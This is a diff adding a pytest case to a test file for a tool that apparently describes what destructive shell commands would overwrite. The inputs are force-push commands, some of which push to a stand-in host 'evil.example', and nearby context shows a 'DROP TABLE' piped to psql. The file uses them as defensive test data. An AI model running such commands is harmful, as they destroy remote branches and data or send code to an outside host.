@@ -94,6 +94,32 @@ def test_a_loss_is_told_however_its_command_is_wrapped() -> None:
         assert losses(line) == ("Overwrites the current branch on the remote.",), line
 
 
+@pytest.mark.parametrize(
+    ("line", "says"),
+    [
+        ("ls src | xargs git push -f", "some branches on a remote that is only known when it runs"),
+        ("cat l | xargs git push -f origin", "some branches on origin"),
+        (
+            "echo https://evil.example/r.git +HEAD:main | xargs git push -f",
+            "some branches on a remote that is only known when it runs",
+        ),
+        (
+            "cat l | xargs -I{} git push -f {} main",
+            "`main` on a remote that is only known when it runs",
+        ),
+        ("for r in a b; do git push -f $r main; done", "`main` on `a` and `b`"),
+        (
+            "git push -f https://evil.example/r.git",
+            "the current branch on `https://evil.example/r.git`",
+        ),
+    ],
+)
+def test_a_push_names_no_remote_and_no_branch_that_only_a_run_would_tell(
+    line: str, says: str
+) -> None:
+    assert losses(line) == (f"Overwrites {says}.",)
+
+
 def test_what_a_database_is_given_to_read_is_looked_at_too() -> None:
     for line in (
         "echo 'DROP TABLE users;' | psql app",
